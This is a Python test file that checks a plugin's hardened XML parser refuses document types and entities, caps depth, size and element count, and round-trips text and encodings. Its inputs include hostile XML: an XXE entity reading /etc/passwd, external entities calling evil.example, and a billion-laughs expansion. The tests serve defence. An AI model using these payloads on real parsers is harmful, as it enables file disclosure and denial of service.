"""XML from strangers: what is refused, what is bounded, and what comes through without loss."""

from __future__ import annotations

from pathlib import Path
from xml.etree.ElementTree import Element

import pytest
import requests
from hypothesis import given
from hypothesis import strategies as st

from plugin.domain.errors import InvalidContent, LimitExceeded
from plugin.services import xml

LAUGHS = b"""<!DOCTYPE lolz [<!ENTITY lol "lol"><!ENTITY lol2 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
<!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">]><a>&lol3;</a>"""


def test_the_guard_of_these_tests_works() -> None:
    with pytest.raises(RuntimeError, match="network"):
        requests.get("http://127.0.0.1:9/", timeout=1)


@pytest.mark.parametrize(
    "body",
    [
        b"<!DOCTYPE a><a/>",
        b'<!DOCTYPE a SYSTEM "http://evil.example/a.dtd"><a/>',
        b'<?xml version="1.0"?><!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">]><a>&x;</a>',
        b'<!DOCTYPE a [<!ENTITY % p SYSTEM "http://evil.example/p">%p;]><a/>',
        LAUGHS,
    ],
)
def test_no_document_type_and_so_no_entity(body: bytes) -> None:
    with pytest.raises(InvalidContent, match="document type"):
        xml.parse(body)


@pytest.mark.parametrize(
    "body",
    [
        b"",
        b"   ",
        b"no xml",
        b"<a>",
        b"<a></b>",
        b"<a/><b/>",
        b"<a>&undefined;</a>",
        b"<a b='1' b='2'/>",
        b"<p:a/>",
        b"<a>\x00</a>",
        b"<a>&#0;</a>",
        b'<?xml version="1.0" encoding="klingon"?><a/>',
        b'<?xml version="1.0" encoding="idna"?><a/>',
        b'<?xml version="1.0" encoding="hex"?><a/>',
        b'<?xml version="1.0" encoding="utf-7"?><a/>',
        b"<a>\xff\xfe</a>",
    ],
)
def test_what_is_not_well_formed_is_refused(body: bytes) -> None:
    with pytest.raises(InvalidContent):
        xml.parse(body)


def test_depth_number_and_size_are_bounded() -> None:
    deep = b"<a>" * 30_000 + b"</a>" * 30_000
    for body, bound in [
        (deep, {}),
        (b"<a>" + b"<b/>" * 10 + b"</a>", {"max_elements": 10}),
        (b"<a>" + b" " * 100 + b"</a>", {"max_bytes": 100}),
    ]:
        with pytest.raises(LimitExceeded):
            xml.parse(body, **bound)
    assert len(xml.parse(b"<a>" + b"<b/>" * 10 + b"</a>", max_elements=11)) == 10
    assert xml.parse(b"<a><b><c/></b></a>", max_depth=3).tag == "a"


def test_comments_and_instructions_are_harmless() -> None:
    root = xml.parse(b"<a><!-- hi --><?php evil() ?>eins<!-- und -->zwei<b/>\n<!-- drei --></a>")
    assert root.text == "einszwei" and [child.tag for child in root] == ["b"]


@pytest.mark.parametrize("encoding", ["utf-8", "utf-8-sig", "utf-16", "iso-8859-15", "iso-8859-1", "windows-1252"])
def test_umlauts_arrive_in_every_encoding(encoding: str) -> None:
    name = "utf-8" if encoding == "utf-8-sig" else encoding
    text = f'<?xml version="1.0" encoding="{name}"?><baum>Höhe über Öl</baum>'
    assert xml.parse(text.encode(encoding)).text == "Höhe über Öl"


def test_names_count_without_where_they_come_from() -> None:
    root = xml.parse(b'<a xmlns="urn:x" xmlns:p="urn:y"><p:b p:c="1" d="2" c="3"/></a>')
    assert root.tag == "{urn:x}a" and xml.local(root[0].tag) == "b"
    assert xml.attribute(root[0], "c") == "3" and xml.attribute(root[0], "d") == "2"
    assert xml.attribute(xml.parse(b'<b xmlns:p="urn:y" p:c="1"/>'), "c") == "1"


@given(st.text(st.characters(exclude_categories=("Cs",))))
def test_text_is_carried_whole_or_refused(text: str) -> None:
    root = Element("{urn:x}a", {"b": text})
    root.text = text
    try:
        written = xml.write(root)
    except InvalidContent as error:
        assert "cannot carry" in error.text
        assert xml.clean(text) != text
        return
    read = xml.parse(written)
    assert read.text == (text or None) and read.get("b") == text


@given(st.binary(max_size=200))
def test_bytes_of_any_kind_end_in_a_tree_or_a_refusal(body: bytes) -> None:
    try:
        xml.parse(b"<?xml" + body)
        xml.parse(body)
    except InvalidContent:
        pass


@pytest.mark.parametrize("name", ["", "a b", "1a", "a>", "a/><evil", "-a", "ü:ö"])
def test_a_name_that_is_none_is_never_written(name: str) -> None:
    with pytest.raises(InvalidContent):
        xml.write(Element(name if ":" not in name else "{urn:x}ü ö"))
    xml.write(Element("Straßenschlüssel_2"))


def test_an_attack_from_the_wild_is_refused() -> None:
    sample = Path(__file__).parents[3] / "shared/data/wfst"
    sample /= "geotools_GeoServer_2.0_1.1.0_XXE_GetCapabilities_GetCapabilities.xml"
    if not sample.exists():
        pytest.skip("the real-world samples are not beside this checkout")
    with pytest.raises(InvalidContent, match="document type"):
        xml.parse(sample.read_bytes())


@pytest.mark.parametrize("element", [b"<a/>", b"<a>", b"<a></a>"])
def test_a_page_of_nothing_but_elements_is_not_even_begun(element: bytes) -> None:
    """Twenty kilobytes when packed, and gigabytes in memory: QGIS would end with all that is not saved."""
    with pytest.raises(LimitExceeded):
        xml.page(b"<FeatureCollection>" + element * (xml.MAX_SIGNS + 1))
